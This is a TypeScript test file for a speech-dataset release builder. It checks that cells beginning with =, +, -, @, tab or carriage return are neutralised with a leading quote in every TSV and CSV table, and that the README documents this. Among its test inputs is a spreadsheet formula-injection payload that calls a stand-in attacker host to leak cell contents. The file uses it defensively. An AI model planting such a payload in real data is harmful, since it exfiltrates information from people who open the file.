import { readFileSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Db } from 'mongodb';
import { CV_COLUMNS } from '../src/datasets/release-build/tables';
import { datasetCollections, testCollections as collections } from './support/collections';
import { as, startSpeech, type SpeechHarness } from './support/harness';
import { chromiumWebm } from './support/audio';
import { wav } from './support/wav';
import {
  addAudioPair,
  addRecording,
  addSentence,
  addTextPair,
  askForRelease,
  readArtifact,
  sh,
  storeAudio,
  tempDir,
  writeTemp,
} from './support/releases';

// Text people wrote that a spreadsheet would run as a formula, and how every table of a release must hold it.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const FORMULAS = [HYPERLINK, '+1 plus one', '-2 minus two', '@SUM(A1:A9)'];
const quoted = (text: string) => `'${text}`;

const tsv = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((l) => l.split('\t'));

describe('a release neutralises spreadsheet formulas in every table it writes', () => {
  let speech: SpeechHarness;
  let db: Db;
  let dir: string;
  let folder: string;

  beforeAll(async () => {
    speech = await startSpeech();
    db = speech.app.database!.db;
    const take = await storeAudio(db, chromiumWebm('speech'));
    for (const [i, text] of FORMULAS.entries()) {
      const sentenceId = await addSentence(db, text, 'en', ['general']);
      await addRecording(db, { speakerId: `spk-${i}`, sentenceId, text, language: 'en', audio: take });
    }
    await addTextPair(db, '=1+1', '@Ẹ ṣé');
    await addTextPair(db, 'Thank you.', '-Ẹ ṣé o.');
    const pair = await addAudioPair(db, {
      donorId: 'donor-1',
      dialect: 'other',
      source: await storeAudio(db, wav({ seconds: 1.5, rate: 16000 })),
      target: await storeAudio(db, wav({ seconds: 1.5, rate: 16000 })),
    });
    await collections(db).audioPairs.updateOne(
      { _id: pair },
      { $set: { sourceText: '+234 is our code', targetText: '=Ẹ káàbọ̀' } },
    );
    const details = await speech.app.inject({
      method: 'PUT',
      url: '/api/user/speaker-details',
      headers: as('spk-0'),
      payload: { ageRange: 'thirties', gender: 'female', accent: HYPERLINK },
    });
    expect(details.statusCode).toBe(200);

    const release = await askForRelease(db);
    speech.app.releaseWorker.kick();
    await speech.app.releaseWorker.idle();
    const built = (await datasetCollections(db).releases.findOne({ _id: release._id }))!;
    expect(built.status).toBe('published');

    dir = tempDir('release-formulas-');
    const complete = built.artifacts.find((a) => a.name === 'complete.zip')!;
    writeTemp(dir, 'complete.zip', await readArtifact(db, complete.fileId));
    sh('unzip', ['-q', 'complete.zip', '-d', 'out'], dir);
    folder = join(dir, 'out', readdirSync(join(dir, 'out'))[0]!);
  }, 120_000);

  afterAll(async () => {
    await speech?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const read = (name: string) => readFileSync(join(folder, name), 'utf8');
  const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0]!.indexOf(name)]!);

  /** A Common Voice table of both language folders (English recordings, a donation's two sides), as one. */
  const cvTable = (name: string) => {
    const [en, yo] = ['en', 'yo'].map((l) => tsv(read(`${l}/${name}`)));
    expect(yo![0]).toEqual(en![0]);
    return [...en!, ...yo!.slice(1)];
  };

  it('quotes the sentences and the accent in the Common Voice tables', () => {
    const validated = cvTable('validated.tsv');
    expect(validated[0]).toEqual([...CV_COLUMNS]);
    expect(column(validated, 'sentence').sort()).toEqual(
      [...FORMULAS, '+234 is our code', '=Ẹ káàbọ̀'].map(quoted).sort(),
    );
    expect(column(validated, 'accents').filter(Boolean)).toEqual([quoted(HYPERLINK)]);
    const sentences = cvTable('validated_sentences.tsv');
    expect(column(sentences, 'sentence').sort()).toEqual(FORMULAS.map(quoted).sort());
    // Nothing else starts a cell with a formula character.
    for (const name of ['validated.tsv', 'train.tsv', 'dev.tsv', 'test.tsv', 'validated_sentences.tsv']) {
      for (const cell of cvTable(name).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('quotes them in metadata.csv, as a CSV reader reads its cells', () => {
    const cells = sh('/usr/bin/python3', [
      '-c',
      'import csv,sys,json; print(json.dumps(list(csv.reader(open(sys.argv[1]+"/metadata.csv", newline="")))))',
      folder,
    ]);
    const rows = JSON.parse(cells) as string[][];
    expect(column(rows, 'transcription').sort()).toEqual(
      [...FORMULAS, '+234 is our code', '=Ẹ káàbọ̀'].map(quoted).sort(),
    );
    expect(column(rows, 'accents').filter(Boolean)).toEqual([quoted(HYPERLINK)]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('quotes the text tables, keeps the JSON Lines as written, and says so in the README', () => {
    expect(column(tsv(read('text/sentences.tsv')), 'sentence').sort()).toEqual(FORMULAS.map(quoted).sort());
    const pairs = tsv(read('text/text_pairs.tsv'));
    expect(column(pairs, 'english').sort()).toEqual([quoted('=1+1'), 'Thank you.']);
    expect(column(pairs, 'yoruba').sort()).toEqual([quoted('-Ẹ ṣé o.'), quoted('@Ẹ ṣé')]);
    const jsonl = read('text/sentences.jsonl')
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { sentence: string }).sentence);
    expect(jsonl.sort()).toEqual([...FORMULAS].sort());
    expect(read('README.md')).toContain(
      'In every `.tsv` and `.csv` file, a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return ' +
        "is written with a single quote (`'`) in front",
    );
  });
});
